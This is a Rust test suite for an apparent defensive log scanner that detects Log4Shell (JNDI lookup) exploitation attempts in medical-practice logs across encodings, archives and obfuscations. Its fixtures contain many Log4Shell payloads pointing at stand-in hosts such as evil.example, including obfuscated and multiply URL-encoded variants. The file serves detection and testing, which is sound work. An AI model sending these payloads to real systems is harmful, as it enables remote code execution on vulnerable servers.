//! Generated corpora: encodings, compressions, archives, rotated names, huge lines, CRLF,
//! templates, execution traces, and what stays out of the output.

use praxcheck_logscan::{Limits, Options, scan_paths};
use praxcheck_model::{EvidenceLevel, ExecutionMarker, LogSourceOrigin, UnreadableReason};

use crate::support::{Rng, bzip2, gzip, lines_of, payloads, scan, scan_one, write, xz, zip, zstd};

const PAYLOAD: &str = "${jndi:ldap://evil.example:1389/a}";

/// A German practice log with the payload on line 4.
fn german_log() -> String {
    format!(
        "2021-12-11 10:00:00,001 INFO  Termin für Frau Jürgens bestätigt (Größe 1,68 m)\n\
         2021-12-11 10:00:01,002 INFO  Konfiguration: ${{catalina.base}}/logs, ${{user.name}}\n\
         2021-12-11 10:00:02,003 WARN  Überweisung an Dr. Weiß: Übermittlung später\n\
         2021-12-11 10:00:03,004 INFO  Suche nach {PAYLOAD}\n\
         2021-12-11 10:00:04,005 INFO  Ende\n"
    )
}

#[test]
fn german_utf8_log_with_umlauts_first() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "praxis.log", german_log().as_bytes());
    let s = scan_one(&p);
    assert_eq!(lines_of(&s.evidence), vec![4]);
    let e = &s.evidence[0];
    assert_eq!(e.payload.as_deref(), Some(PAYLOAD));
    assert_eq!(e.timestamp.as_deref(), Some("2021-12-11 10:00:03,004"));
    assert_eq!(e.level, EvidenceLevel::PayloadSeen);
    let cb = e.callback.as_ref().unwrap();
    assert_eq!(
        (cb.protocol.as_str(), cb.host.as_deref(), cb.port),
        ("ldap", Some("evil.example"), Some(1389))
    );
    assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
}

#[test]
fn latin1_and_windows1252_logs() {
    let dir = tempfile::tempdir().unwrap();
    let mut bytes = b"Patient M\xfcller, Gr\xf6\xdfe \x80 12\n".repeat(50);
    bytes.extend_from_slice(format!("x {PAYLOAD}\n").as_bytes());
    let p = write(dir.path(), "latin1.log", &bytes);
    let s = scan_one(&p);
    assert_eq!(lines_of(&s.evidence), vec![51]);
    // A Latin-1 byte inside the payload's neighbourhood does not hide it.
    let p = write(dir.path(), "mixed.log", b"\xfc${jndi:ldap://h\xe4st/a}\n");
    let s = scan_one(&p);
    assert_eq!(payloads(&s.evidence), vec!["${jndi:ldap://h\u{e4}st/a}"]);
}

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend_from_slice(if big_endian {
            &[0xFE, 0xFF]
        } else {
            &[0xFF, 0xFE]
        });
    }
    for u in text.encode_utf16() {
        let b = if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        };
        out.extend_from_slice(&b);
    }
    out
}

#[test]
fn utf16_logs_with_and_without_bom() {
    let dir = tempfile::tempdir().unwrap();
    let text = german_log();
    for (name, be, bom) in [
        ("le-bom.log", false, true),
        ("be-bom.log", true, true),
        ("le-nobom.log", false, false),
    ] {
        let p = write(dir.path(), name, &utf16(&text, be, bom));
        let s = scan_one(&p);
        assert_eq!(lines_of(&s.evidence), vec![4], "{name}");
        assert_eq!(payloads(&s.evidence), vec![PAYLOAD], "{name}");
        assert_eq!(s.sources[0].files_skipped, 0, "{name}");
    }
}

#[test]
fn every_compression_and_rotated_names() {
    let dir = tempfile::tempdir().unwrap();
    let text = german_log();
    let t = text.as_bytes();
    let files = [
        ("catalina.out", t.to_vec()),
        ("catalina.out.1", t.to_vec()),
        ("app.log.2.gz", gzip(t)),
        ("app.log.3.zst", zstd(t)),
        ("app.log.4.bz2", bzip2(t)),
        ("app.log.5.xz", xz(t)),
        // Compression by content, not by name.
        ("app.log.6", gzip(t)),
        // Two gzip members, as `cat a.gz b.gz` or logrotate's delaycompress leave them.
        ("app.log.7.gz", [gzip(b"line one\n"), gzip(t)].concat()),
        // A gzip of a gzip.
        ("double.gz", gzip(&gzip(t))),
    ];
    for (name, data) in &files {
        write(dir.path(), name, data);
    }
    let s = scan_one(dir.path());
    assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
    for (name, _) in &files {
        let found: Vec<_> = s
            .evidence
            .iter()
            .filter(|e| e.location.display.ends_with(&format!("/{name}")))
            .collect();
        let want = if *name == "app.log.7.gz" { 5 } else { 4 };
        assert_eq!(found.len(), 1, "{name}");
        assert_eq!(found[0].line, want, "{name}");
    }
    assert_eq!(s.sources.len(), 1);
    assert_eq!(s.sources[0].files_scanned, files.len() as u64);
    assert_eq!(s.sources[0].origin, LogSourceOrigin::Given);
}

#[test]
fn zip_of_logs_names_the_entry() {
    let dir = tempfile::tempdir().unwrap();
    let text = german_log();
    let gz = gzip(text.as_bytes());
    let inner = zip(&[("inner.log", text.as_bytes())]);
    let data = zip(&[
        ("logs/app.log", text.as_bytes()),
        ("logs/app.log.1.gz", &gz),
        ("logs/nested.zip", &inner),
        ("logs/readme.txt", b"nichts hier\n"),
    ]);
    let p = write(dir.path(), "logs-2021-12.zip", &data);
    let s = scan_one(&p);
    let got: Vec<String> = s
        .evidence
        .iter()
        .map(|e| format!("{}:{}", e.location.display, e.line))
        .collect();
    let base = p.display().to_string();
    assert_eq!(
        got,
        vec![
            format!("{base}!/logs/app.log:4"),
            format!("{base}!/logs/app.log.1.gz:4"),
            format!("{base}!/logs/nested.zip!/inner.log:4"),
        ]
    );
    assert_eq!(s.evidence[0].location.chain.len(), 2);
    assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
}

#[test]
fn a_zip_whose_entries_share_their_data_is_refused() {
    // 200 directory records over one deflate stream: each would be inflated again.
    use std::io::Write as _;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    w.start_file("a.log", opts).unwrap();
    w.write_all(PAYLOAD.as_bytes()).unwrap();
    for i in 0..200 {
        w.shallow_copy_file("a.log", &format!("copy-{i}.log"))
            .unwrap();
    }
    let data = w.finish().unwrap().into_inner();
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "logs.zip", &data);
    let s = scan_one(&p);
    assert!(s.evidence.is_empty(), "{:?}", s.evidence);
    assert_eq!(s.unreadable.len(), 1, "{:?}", s.unreadable);
    assert_eq!(s.unreadable[0].reason, UnreadableReason::Corrupt);
    assert!(s.unreadable[0].detail.contains("overlap"));
}

#[test]
fn binary_files_are_skipped_with_the_reason() {
    let dir = tempfile::tempdir().unwrap();
    let mut bin = vec![0u8, 1, 2, 3, 0, 0, 0xff, 0x10];
    bin.extend_from_slice(PAYLOAD.as_bytes());
    bin.extend(std::iter::repeat_n(0u8, 4000));
    write(dir.path(), "journal.bin", &bin);
    // A jar is zip-format but not an archive of logs.
    write(
        dir.path(),
        "lib.jar",
        &zip(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\n")]),
    );
    write(dir.path(), "ok.log", b"alles gut\n");
    let s = scan_one(dir.path());
    assert!(s.evidence.is_empty());
    let reasons: Vec<(String, UnreadableReason)> = s
        .unreadable
        .iter()
        .map(|u| {
            (
                u.location.display.rsplit('/').next().unwrap().to_owned(),
                u.reason,
            )
        })
        .collect();
    assert_eq!(
        reasons,
        vec![
            ("journal.bin".to_owned(), UnreadableReason::Binary),
            ("lib.jar".to_owned(), UnreadableReason::Binary),
        ]
    );
    assert_eq!(s.sources[0].files_skipped, 2);
    assert_eq!(s.sources[0].files_scanned, 1);
}

#[test]
fn crlf_lines_and_huge_lines() {
    let dir = tempfile::tempdir().unwrap();
    let crlf = format!("a\r\nb {PAYLOAD}\r\nc\r\n");
    let p = write(dir.path(), "crlf.log", crlf.as_bytes());
    let s = scan_one(&p);
    assert_eq!(lines_of(&s.evidence), vec![2]);
    assert_eq!(payloads(&s.evidence), vec![PAYLOAD]);

    // One 24 MiB line with payloads at its start, in the middle and at the end, then a
    // normal line with one more; line numbers must hold across buffer refills.
    let mut huge = Vec::with_capacity(25 << 20);
    huge.extend_from_slice(b"2021-12-11 10:00:00 start ");
    huge.extend_from_slice(b"${jndi:ldap://first.example/a} ");
    while huge.len() < 12 << 20 {
        huge.extend_from_slice(b"Befund ${x} normal; ");
    }
    huge.extend_from_slice(b"${jndi:ldap://middle.example/a} ");
    while huge.len() < 24 << 20 {
        huge.extend_from_slice(b"abcdefghij");
    }
    huge.extend_from_slice(b"${jndi:ldap://end.example/a}\nnext ${jndi:dns://next.example}\n");
    let p = write(dir.path(), "huge.log", &huge);
    let s = scan_one(&p);
    let got: Vec<(u64, String)> = s
        .evidence
        .iter()
        .map(|e| {
            (
                e.line,
                e.callback
                    .as_ref()
                    .unwrap()
                    .host
                    .clone()
                    .unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (1, "first.example".to_owned()),
            (1, "middle.example".to_owned()),
            (1, "end.example".to_owned()),
            (2, "next.example".to_owned()),
        ]
    );
    // The timestamp of a huge line comes from its start, kept across refills.
    assert!(
        s.evidence[..3]
            .iter()
            .all(|e| e.timestamp.as_deref() == Some("2021-12-11 10:00:00"))
    );
}

#[test]
fn payloads_at_random_offsets_across_buffer_boundaries() {
    // Lines of random length (some longer than the decode window), payloads on random
    // lines; the scan must report exactly those lines, whatever the buffer splits.
    let mut rng = Rng(0x5eed_1234);
    let mut text = Vec::new();
    let mut want = Vec::new();
    for line in 1..=6000u64 {
        let len = match rng.below(10) {
            0 => rng.below(40_000),
            _ => rng.below(400),
        };
        if rng.below(40) == 0 {
            let at = rng.below(len.max(1));
            text.extend(std::iter::repeat_n(b'a', at));
            text.extend_from_slice(b" ${${lower:j}ndi:ldap://x.example/a} ");
            text.extend(std::iter::repeat_n(b'b', len - at.min(len)));
            want.push(line);
        } else {
            for k in 0..len {
                text.push(if k % 50 == 7 { b'$' } else { b'z' });
            }
        }
        text.push(b'\n');
    }
    assert!(text.len() > 3 << 20, "covers several buffers");
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "random.log", &text);
    assert_eq!(lines_of(&scan_one(&p).evidence), want);
    // The same through gzip (different read sizes).
    let p = write(dir.path(), "random.log.gz", &gzip(&text));
    assert_eq!(lines_of(&scan_one(&p).evidence), want);
}

/// Percent-encodes every byte of `s`.
fn encode_all(s: &str) -> String {
    s.bytes().map(|b| format!("%{b:02X}")).collect()
}

#[test]
fn multiple_url_encoding_with_every_character_encoded() {
    // Level 2 and 3 encodings in which the `%` and the hex digits are encoded too; the
    // plain `%2524` forms are covered by the decoder tests.
    let once = encode_all(PAYLOAD);
    let twice = encode_all(&once);
    let thrice = encode_all(&twice);
    let mixed = "%25%32%34%25%37%42jndi:ldap://evil.example:1389/a%7D".to_owned();
    let dir = tempfile::tempdir().unwrap();
    let mut text = String::from(
        "10.0.0.9 - - [11/Dec/2021:10:00:00 +0100] \"GET /?q=%25%25%25 HTTP/1.1\" 404 0\n",
    );
    for p in [&once, &twice, &thrice, &mixed] {
        text.push_str(&format!(
            "10.0.0.9 - - [11/Dec/2021:10:00:00 +0100] \"GET /?q={p} HTTP/1.1\" 404 0\n"
        ));
    }
    let p = write(dir.path(), "access.log", text.as_bytes());
    let s = scan_one(&p);
    assert_eq!(lines_of(&s.evidence), vec![2, 3, 4, 5], "{:?}", s.evidence);
    for e in &s.evidence {
        assert_eq!(e.payload.as_deref(), Some(PAYLOAD), "{e:?}");
    }
}

#[test]
fn templates_configs_and_normal_jndi_talk_are_not_findings() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "templates.log",
        b"Vorlage ${anrede} ${nachname}, Termin ${datum}\n\
          ${env:HOME}/export ${sys:user.home:-/root} ${ctx:requestId} ${java:version}\n\
          user=${USER} home=${HOME} jndi name java:comp/env/jdbc/ds ldap://intranet.praxis.local\n\
          LDAP-Anmeldung gegen ldap://dc01.praxis.local:389 erfolgreich; JNDI bereit\n\
          Contains jndi:ldap://tj5udg.dnslog.cn\n",
    );
    write(
        dir.path(),
        "config.json",
        br#"{"datasource": {"jndi": "java:comp/env/jdbc/pvs", "url": "${DB_URL}"}, "ldap": "ldap://dc01:389", "user": "${USER:-pvs}"}"#,
    );
    write(
        dir.path(),
        "application.yaml",
        b"spring:\n  ldap:\n    urls: ${LDAP_URL:ldap://localhost:389}\n  datasource:\n    jndi-name: ${JNDI_NAME:java:comp/env/jdbc/pvs}\n",
    );
    write(
        dir.path(),
        "log4j2.xml",
        b"<Property name=\"dir\">${sys:catalina.base}/logs</Property>\n<Lookup>${jndi:java:comp/env/logging/level}</Lookup>\n",
    );
    write(
        dir.path(),
        "access.log",
        b"10.0.0.5 - - [11/Dec/2021:10:00:00 +0100] \"GET /api/termine?%24filter=datum%20ge%202021&%24top=5 HTTP/1.1\" 200 512\n",
    );
    let s = scan_one(dir.path());
    assert!(s.evidence.is_empty(), "{:?}", s.evidence);
    assert_eq!(s.sources[0].files_scanned, 5);
}

#[test]
fn access_log_source_address_and_time() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(
        dir.path(),
        "localhost_access_log.2021-12-11.txt",
        b"203.0.113.9 - - [11/Dec/2021:10:00:00 +0100] \"GET /?q=%24%7Bjndi:ldap://evil.example/a%7D HTTP/1.1\" 200 5 \"-\" \"${jndi:dns://ua.example}\"\n",
    );
    let s = scan_one(&p);
    assert_eq!(s.evidence.len(), 2, "{:?}", s.evidence);
    for e in &s.evidence {
        assert_eq!(e.source_address.as_deref(), Some("203.0.113.9"));
        assert_eq!(e.timestamp.as_deref(), Some("11/Dec/2021:10:00:00 +0100"));
    }
    assert_eq!(
        payloads(&s.evidence),
        vec!["${jndi:ldap://evil.example/a}", "${jndi:dns://ua.example}"]
    );
}

#[test]
fn execution_traces_raise_the_level() {
    let dir = tempfile::tempdir().unwrap();
    // Payload, then the stack trace through JndiLookup: one evidence, lookup executed.
    let p = write(
        dir.path(),
        "executed.log",
        format!(
            "2021-12-11 10:00:00 WARN Suche {PAYLOAD}\n\
             javax.naming.CommunicationException: evil.example:1389\n\
             \tat com.sun.jndi.ldap.LdapCtx.connect(LdapCtx.java:1)\n\
             \tat org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)\n\
             \tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n"
        )
        .as_bytes(),
    );
    let s = scan_one(&p);
    assert_eq!(s.evidence.len(), 1, "{:?}", s.evidence);
    assert_eq!(s.evidence[0].level, EvidenceLevel::LookupExecuted);
    assert_eq!(s.evidence[0].marker, Some(ExecutionMarker::JndiLookupFrame));
    assert_eq!(s.evidence[0].payload.as_deref(), Some(PAYLOAD));

    // Only the trace (the payload was logged elsewhere): its own evidence.
    let p = write(
        dir.path(),
        "trace-only.log",
        b"x\ny\njavax.naming.NamingException: Reference Class Name: Exploit\n",
    );
    let s = scan_one(&p);
    assert_eq!(s.evidence.len(), 1);
    assert_eq!(s.evidence[0].line, 3);
    assert_eq!(s.evidence[0].level, EvidenceLevel::LookupExecuted);
    assert_eq!(
        s.evidence[0].marker,
        Some(ExecutionMarker::ReferenceClassName)
    );

    // Log4j's own failure to look up a configuration name is no attack.
    let p = write(
        dir.path(),
        "config-lookup.log",
        b"2021-12-11 ERROR Error looking up JNDI resource [java:comp/env/logging/level].\n\
          \tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n",
    );
    assert!(scan_one(&p).evidence.is_empty());
}

#[test]
fn patient_data_on_a_payload_line_is_not_kept() {
    let dir = tempfile::tempdir().unwrap();
    let line = format!(
        "2021-12-11 10:00:00 INFO Patientin Erika Mustermann, geb. 12.08.1964, \
         KVNR A123456789, Diagnose F32.1 {PAYLOAD} Befund: unauffällig\n"
    );
    let p = write(dir.path(), "patient.log", line.as_bytes());
    let s = scan_one(&p);
    assert_eq!(s.evidence.len(), 1);
    let json = serde_json::to_string(&(&s.evidence, &s.sources, &s.unreadable)).unwrap();
    for secret in [
        "Mustermann",
        "Erika",
        "1964",
        "A123456789",
        "F32.1",
        "Befund",
        "Patientin",
    ] {
        assert!(!json.contains(secret), "{secret} leaked: {json}");
    }
    assert!(json.contains("evil.example"));
}

#[test]
fn a_payload_longer_than_the_bound_is_cut() {
    let dir = tempfile::tempdir().unwrap();
    let long = format!("${{jndi:ldap://evil.example/{}}}\n", "a".repeat(3000));
    let p = write(dir.path(), "long.log", long.as_bytes());
    let s = scan_one(&p);
    let e = &s.evidence[0];
    assert!(e.payload_truncated);
    assert_eq!(
        e.payload.as_ref().unwrap().chars().count(),
        praxcheck_model::MAX_PAYLOAD_CHARS
    );
}

#[test]
fn files_reached_twice_are_read_once_for_the_most_specific_root() {
    let dir = tempfile::tempdir().unwrap();
    let sub = dir.path().join("tomcat9");
    std::fs::create_dir(&sub).unwrap();
    write(&sub, "catalina.out", german_log().as_bytes());
    let roots = vec![
        praxcheck_logscan::Root {
            path: dir.path().to_path_buf(),
            origin: LogSourceOrigin::System,
        },
        praxcheck_logscan::Root {
            path: sub.clone(),
            origin: LogSourceOrigin::Tomcat,
        },
    ];
    let s = praxcheck_logscan::scan_roots(&roots, &Options::default());
    assert_eq!(s.evidence.len(), 1);
    let by_origin: Vec<(LogSourceOrigin, u64)> = s
        .sources
        .iter()
        .map(|x| (x.origin, x.files_scanned))
        .collect();
    assert_eq!(
        by_origin,
        vec![(LogSourceOrigin::System, 0), (LogSourceOrigin::Tomcat, 1)]
    );
    // Excluded folders are left out.
    let s = scan_paths(
        &[dir.path().to_path_buf()],
        &Options {
            exclude: vec![sub],
            ..Options::default()
        },
    );
    assert!(s.evidence.is_empty());
    let _ = Limits::default();
}

#[test]
fn missing_paths_are_reported_not_fatal() {
    let dir = tempfile::tempdir().unwrap();
    let ok = write(dir.path(), "a.log", german_log().as_bytes());
    let s = scan(&[dir.path().join("does-not-exist"), ok]);
    assert_eq!(s.readable_roots, 1);
    assert_eq!(s.evidence.len(), 1);
    assert_eq!(s.unreadable.len(), 1);
    assert_eq!(s.unreadable[0].reason, UnreadableReason::NotFound);
}
